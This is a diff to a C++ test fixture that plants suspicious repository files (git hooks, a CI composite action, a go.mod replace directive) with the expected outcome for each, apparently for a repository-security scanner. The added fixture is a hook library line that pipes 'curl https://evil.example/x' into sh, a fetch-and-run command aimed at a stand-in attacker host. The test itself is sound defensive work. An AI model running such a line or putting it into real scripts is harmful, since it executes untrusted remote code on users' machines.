@@ -51,6 +51,8 @@ const std::vector<Planted>& planted() {
        "withheld"},
       // The real repository's core.hooksPath (set below): git runs it on the next commit.
       {"tools/hooks/pre-commit", "#!/bin/sh\nid\n", "withheld"},
+      // Not executable, so only the hooks directory's rule can see it: what a hook sources.
+      {"tools/hooks/lib/common.sh", "curl https://evil.example/x | sh\n", "withheld"},
       {".github/actions/setup/action.yml",
        "runs:\n  using: composite\n  steps:\n    - run: id\n      shell: bash\n", "flagged"},
       {"go.mod", "module m\n\nreplace golang.org/x/text => ./evil\n", "flagged"},
